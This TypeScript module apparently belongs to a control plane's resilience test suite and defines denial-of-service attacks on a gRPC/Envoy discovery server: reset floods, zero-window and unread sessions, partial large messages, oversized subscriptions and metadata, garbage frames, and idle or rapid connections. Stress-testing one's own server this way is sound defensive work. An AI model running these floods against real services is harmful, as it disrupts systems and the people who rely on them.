/**
 * Attacks with gRPC streams and discovery requests.
 *
 * @module
 */
import { TYPE_URLS } from "../../lib/mesh/model/mod.ts";
import { create, encode } from "../../lib/kit/proto/mod.ts";
import { DeltaDiscoveryRequestSchema } from "#envoy/service/discovery/v3/discovery_pb.ts";
import { type Attack, each, REQUEST, streams } from "./frame_attacks.ts";
import {
  concat,
  dataFrame,
  frame,
  grpcMessage,
  headersFrame,
  hello,
  INITIAL_WINDOW_SIZE,
  resetFrame,
  TYPE,
  uint32,
} from "./frames.ts";
import { openPaced } from "./paced.ts";
import { again, greet, openFrom, pour } from "./wire.ts";

let nodes = 0;

/** A request for clusters, with the node of a new proxy. */
function discoveryRequest(names: string[] = [], metadata: Record<string, string> = {}): Uint8Array {
  const number = ++nodes;
  const name = `evil-${number}.evil`;
  const id = `sidecar~10.9.${number >> 8 & 255}.${number & 255}~${name}~evil.svc.cluster.local`;
  const request = create(DeltaDiscoveryRequestSchema, {
    node: { id, metadata },
    typeUrl: TYPE_URLS.cluster,
    resourceNamesSubscribe: names,
  });
  return encode(DeltaDiscoveryRequestSchema, request);
}

/** HEADERS and a whole discovery request in one DATA frame. */
function opening(stream: number, message = discoveryRequest()): Uint8Array {
  return concat(headersFrame(stream, REQUEST), dataFrame(stream, grpcMessage(message)));
}

/** Requests for configuration that are reset at once, on several connections. */
const abandoned: Attack = async (scene) => {
  await Promise.all(Array.from({ length: 4 }, () =>
    again(scene, { read: true }, async (wire) => {
      // Fewer than the resets that a connection is allowed.
      await pour(wire, each((id) => concat(opening(id), resetFrame(id)), streams(1, 1900)));
    })));
};

/** Sessions that are never to be sent anything, each on a separate connection. */
const closedWindows: Attack = async (scene) => {
  for (let i = 0; i < 300; i++) {
    const wire = await greet(scene, { read: true, settings: [[INITIAL_WINDOW_SIZE, 0]] });
    await wire.write(opening(1));
  }
  scene.begun();
  await scene.end;
};

/** The same on one connection. */
const closedWindowsTogether: Attack = async (scene) => {
  const wire = await greet(scene, { read: true, settings: [[INITIAL_WINDOW_SIZE, 0]] });
  await pour(wire, each((id) => opening(id), streams(1, 300)));
  scene.begun();
  await scene.end;
};

/** Sessions of clients that read nothing from their sockets. */
const unreadSessions: Attack = async (scene) => {
  for (let i = 0; i < 300; i++) {
    const wire = await greet(scene, { settings: [[INITIAL_WINDOW_SIZE, 2 ** 31 - 1]] });
    await wire.write(concat(frame(TYPE.windowUpdate, 0, 0, uint32(2 ** 30)), opening(1)));
  }
  scene.begun();
  await scene.end;
};

/** Large messages of which the last byte never comes. */
const partialMessages: Attack = async (scene) => {
  const head = concat(Uint8Array.of(0), uint32(4 << 20));
  const content = new Uint8Array((4 << 20) - 1);
  await Promise.all(Array.from({ length: 30 }, async () => {
    const wire = await openPaced(scene);
    for (const id of streams(1, 15)) {
      await wire.write(headersFrame(id, REQUEST));
      if (!await wire.send(id, concat(head, content))) return;
      scene.begun();
    }
    await scene.end;
  }));
};

/** Requests for everything, each on a separate stream that stays open, as fast as possible. */
const requestFlood: Attack = (scene) =>
  again(scene, { read: true }, (wire) => pour(wire, each((id) => opening(id))));

/** Requests on one stream, as fast as possible, each for a name more. */
const requestsOnOneStream: Attack = async (scene) => {
  while (!scene.over()) {
    const wire = await openPaced(scene);
    await wire.write(opening(1));
    scene.begun();
    for (let i = 0;; i++) {
      const request = discoveryRequest([`none-${i}`]);
      if (!await wire.send(1, grpcMessage(request))) break;
    }
  }
};

/**
 * Streams that ask for as many names as fit, again and again; on no stream a response is read to its
 * end. `round` makes the names of a request differ from those of others.
 */
const manyNames = (nameOf: (i: number, round: number) => string): Attack => async (scene) => {
  let round = 0;
  const message = () => {
    const names = Array.from({ length: 90_000 }, (_, i) => nameOf(i, round));
    round++;
    return grpcMessage(discoveryRequest(names));
  };
  const same = message();
  const isSame = nameOf(0, 0) === nameOf(0, 1);
  await Promise.all(Array.from({ length: 4 }, async () => {
    while (!scene.over()) {
      const wire = await openPaced(scene);
      for (const id of streams(1, 20)) {
        await wire.write(headersFrame(id, REQUEST));
        if (!await wire.send(id, isSame ? same : message())) break;
        scene.begun();
      }
    }
  }));
};

/** Nodes with metadata as large as a message may be. */
const largeNodes: Attack = async (scene) => {
  const message = grpcMessage(discoveryRequest([], { FILL: "x".repeat(3 << 20) }));
  await Promise.all(Array.from({ length: 4 }, async () => {
    while (!scene.over()) {
      const wire = await openPaced(scene);
      for (const id of streams(1, 20)) {
        await wire.write(headersFrame(id, REQUEST));
        if (!await wire.send(id, message)) break;
        scene.begun();
      }
    }
  }));
};

/** Messages that are no discovery requests. */
const garbage: Attack = (scene) =>
  again(scene, { read: true }, (wire) => {
    const message = grpcMessage(new Uint8Array(200).fill(0xff));
    return pour(wire, each((id) => concat(headersFrame(id, REQUEST), dataFrame(id, message))));
  });

/** An address that the attacker has to himself. */
const ELSEWHERE = "127.0.0.9";

/** Connections from one address that say nothing, or greet and say nothing else. */
const idleConnections: Attack = async (scene) => {
  for (let i = 0; i < 4000 && !scene.over(); i++) {
    const wire = await openFrom(scene, ELSEWHERE);
    if (i % 2 === 0) await wire.write(hello());
    if (i === 100) scene.begun();
  }
  await scene.end;
};

/** Connections from one address with one stream each on which no request comes. */
const idleStreams: Attack = async (scene) => {
  const opening = concat(hello(), headersFrame(1, REQUEST));
  for (let i = 0; i < 3000 && !scene.over(); i++) {
    const wire = await openFrom(scene, ELSEWHERE);
    await wire.write(opening);
    if (i === 100) scene.begun();
  }
  await scene.end;
};

/** Connections that are closed at once, as fast as possible; every other one greets before that. */
const hangUps: Attack = async (scene) => {
  const greeting = hello();
  await Promise.all(Array.from({ length: 20 }, async (_, i) => {
    while (!scene.over()) {
      const wire = await openFrom(scene, ELSEWHERE);
      if (i % 2 === 0) await wire.write(greeting);
      scene.begun();
      wire.close();
    }
  }));
};

/** Attacks by name. */
export const STREAM_ATTACKS: Readonly<Record<string, Attack>> = {
  abandoned,
  closedWindows,
  closedWindowsTogether,
  unreadSessions,
  partialMessages,
  requestFlood,
  requestsOnOneStream,
  manyNames: manyNames((i) => `outbound|80||${i}.none`),
  otherNames: manyNames((i, round) => `outbound|80||${i}.none${round}`),
  rotatedNames: manyNames((i, round) => `outbound|80||${(i + round) % 90_000}.none`),
  largeNodes,
  garbage,
  idleConnections,
  idleStreams,
  hangUps,
};
